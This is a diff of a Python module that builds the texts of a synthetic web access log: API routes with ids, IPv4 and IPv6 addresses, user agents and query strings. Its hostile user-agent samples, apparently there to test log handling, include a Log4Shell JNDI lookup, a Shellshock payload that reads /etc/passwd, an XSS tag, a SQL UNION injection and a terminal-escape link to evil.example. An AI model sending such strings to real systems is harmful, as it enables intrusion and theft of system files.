@@ -1,6 +1,6 @@
-"""The texts of a generated access log: endpoints, addresses, user agents, query strings, as they are meant and written.
+"""The texts of a generated access log: endpoints, addresses, user agents and queries, as values and as written in JSON.
 
-Some are hostile: what a log holds was chosen by strangers. No path has a segment that only looks like an id.
+Some texts are hostile, as strangers choose what a log holds. No path has a segment that looks like an id but is none.
 """
 
 import json
@@ -16,10 +16,10 @@ _SECTIONS = (
     *("users", "orders", "items", "carts", "invoices", "sessions", "reports", "payments", "products", "reviews"),
     *("devices", "messages", "teams", "projects", "tickets", "uploads", "addresses", "coupons", "events", "metrics"),
 )
-# n, x and u in braces are an id: numeric, hex, UUID.
+# {n}, {x} and {u} are ids: numeric, hex, UUID.
 _SHAPES = ("", "/{n}", "/search", "/{x}/history", "/{u}", "/export", "/{n}/items/{x}")
 
-# Asked for by scanners; none holds a question mark, or is changed by stripping.
+# The paths that scanners request. None has a question mark, or blanks at its ends.
 ATTACKS = (
     *(
         "/login",
@@ -51,7 +51,7 @@ AGENTS_OF_ATTACKS = (
     *("sqlmap/1.9", "${jndi:ldap://203.0.113.9/a}", "() { :; }; /bin/cat /etc/passwd", "<img src=x onerror=alert(1)>"),
     *("\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "[bold red]markup[/oops]", "' UNION SELECT NULL--", "\x00"),
 )
-# A JSON number or true stands for its text, and blanks around a text do not count.
+# How some user agents are written. A JSON number or true stands for its text; blanks at the ends do not count.
 _WRITTEN = {"42": "42", "true": "true", "padded/1.0": '"  padded/1.0\\t"'}
 
 _QUERIES = (
@@ -69,12 +69,13 @@ _QUERIES = (
 )
 
 
-class Words:
-    """Every text by number: endpoints (with what they collapse to), addresses, user agents.
+class Vocabulary:
+    """All texts by number: the texts of an exchange are stored as numbers, which index these columns.
 
-    `first` and `ids` tell for each route its first endpoint and how many ids it is asked for with; from number
-    `routes` on, routes are the attacks. Columns: endpoints, collapsed, ips, agents; those that end in `_json` are
-    written in a log, the path still open at its end for `query_json`, which also closes it.
+    `first` and `ids` have, for each route, the number of its first endpoint and its number of ids. Routes from number
+    `routes` on are attacks. Columns: endpoints, collapsed (the same with `*` for ids), ips, agents, methods. Columns
+    that end in `_json` have the texts as JSON. A text of `endpoints_json` has no quote at its end; the text of
+    `queries_json` that follows it has one.
     """
 
     def __init__(self, *, endpoints: int, ids: int, ips: int, abusers: int) -> None:
@@ -84,62 +85,62 @@ class Words:
         paths: list[str] = []
         collapsed: list[str] = []
         for shape in [*map(_route, range(endpoints)), *ATTACKS]:
-            found = [_path(shape, place) for place in range(ids)] if _is_open(shape) else [shape]
+            route_paths = [_path(shape, number) for number in range(ids)] if _has_ids(shape) else [shape]
             self.first.append(len(paths))
-            self.ids.append(len(found))
-            paths += found
-            collapsed += [_closed(shape)] * len(found)
+            self.ids.append(len(route_paths))
+            paths += route_paths
+            collapsed += [_collapsed(shape)] * len(route_paths)
         self.endpoints = pl.Series(paths)
         self.collapsed = pl.Series(collapsed)
-        self.endpoints_json = pl.Series([_json(path, place)[:-1] for place, path in enumerate(paths)])
+        self.endpoints_json = pl.Series([_json(path, number)[:-1] for number, path in enumerate(paths)])
         self.queries_json = pl.Series(list(_queries(256)))
-        self.ips = pl.Series([_ip(place) for place in range(ips)] + [_abuser(place) for place in range(abusers)])
+        self.ips = pl.Series([_ip(number) for number in range(ips)] + [_abuser(number) for number in range(abusers)])
         agents = (*AGENTS, *AGENTS_OF_ATTACKS)
         self.agents = pl.Series(agents)
-        self.agents_json = pl.Series([_WRITTEN.get(text) or _json(text, place) for place, text in enumerate(agents)])
+        self.agents_json = pl.Series([_WRITTEN.get(text) or _json(text, number) for number, text in enumerate(agents)])
         self.methods = pl.Series(METHODS)
 
 
 def _route(number: int) -> str:
-    """The route with a number, all of them different, in an order that mixes their kinds."""
+    """The route of a number. All routes are different; neighbours differ in their kind."""
     version, rest = divmod(number, len(_SECTIONS) * len(_SHAPES))
     section, shape = divmod(rest, len(_SHAPES))
     return f"/api/v{version + 1}/{_SECTIONS[(section + 3 * shape) % len(_SECTIONS)]}{_SHAPES[shape]}"
 
 
-def _is_open(shape: str) -> bool:
-    return any(mark in shape for mark in ("{n}", "{x}", "{u}"))
+def _has_ids(shape: str) -> bool:
+    return any(placeholder in shape for placeholder in ("{n}", "{x}", "{u}"))
 
 
-def _path(shape: str, place: int) -> str:
-    one, other = mixed_number(2 * place), mixed_number(2 * place + 1)
-    word = f"{one:016x}{other:016x}"
-    uuid = "-".join((word[:8], word[8:12], f"4{word[13:16]}", f"8{word[17:20]}", word[20:]))
-    return shape.replace("{n}", f"{1001 + 37 * place}").replace("{x}", word[:24]).replace("{u}", uuid)
+def _path(shape: str, number: int) -> str:
+    high, low = mixed_number(2 * number), mixed_number(2 * number + 1)
+    digits = f"{high:016x}{low:016x}"
+    uuid = "-".join((digits[:8], digits[8:12], f"4{digits[13:16]}", f"8{digits[17:20]}", digits[20:]))
+    return shape.replace("{n}", f"{1001 + 37 * number}").replace("{x}", digits[:24]).replace("{u}", uuid)
 
 
-def _closed(shape: str) -> str:
+def _collapsed(shape: str) -> str:
     return shape.replace("{n}", "*").replace("{x}", "*").replace("{u}", "*")
 
 
-def _json(text: str, place: int) -> str:
-    """JSON has two ways to write what is not ASCII."""
-    return json.dumps(text, ensure_ascii=place % 2 == 0)
+def _json(text: str, number: int) -> str:
+    """A text as JSON: characters beyond ASCII are escaped for even numbers only."""
+    return json.dumps(text, ensure_ascii=number % 2 == 0)
 
 
-def _queries(many: int) -> Iterator[str]:
-    """The end of a path at equal steps of probability: one in eight has a query string."""
-    for step in range(many):
+def _queries(steps: int) -> Iterator[str]:
+    """The ends of JSON paths at equal steps of probability: a quote, and before it a query for one in eight."""
+    for step in range(steps):
         yield _json(_QUERIES[step // 8 % len(_QUERIES)], step // 8)[1:] if step % 8 == 0 else '"'
 
 
-def _ip(place: int) -> str:
-    """Different for every number up to 2^20; every eighth is an IPv6 address."""
-    spread = place * 0x9E3B1 % (1 << 20)
-    if place % 8 == 7:
-        return f"2001:db8::{spread >> 16:x}:{spread & 0xFFFF:x}"
-    return f"10.{64 + (spread >> 16)}.{spread >> 8 & 0xFF}.{spread & 0xFF}"
+def _ip(number: int) -> str:
+    """The address of a number, different for all numbers below 2^20. Every eighth address is IPv6."""
+    mixed_bits = number * 0x9E3B1 % (1 << 20)
+    if number % 8 == 7:
+        return f"2001:db8::{mixed_bits >> 16:x}:{mixed_bits & 0xFFFF:x}"
+    return f"10.{64 + (mixed_bits >> 16)}.{mixed_bits >> 8 & 0xFF}.{mixed_bits & 0xFF}"
 
 
-def _abuser(place: int) -> str:
-    return f"{'203.0.113' if place < 250 else '198.51.100'}.{1 + place % 250}"
+def _abuser(number: int) -> str:
+    return f"{'203.0.113' if number < 250 else '198.51.100'}.{1 + number % 250}"
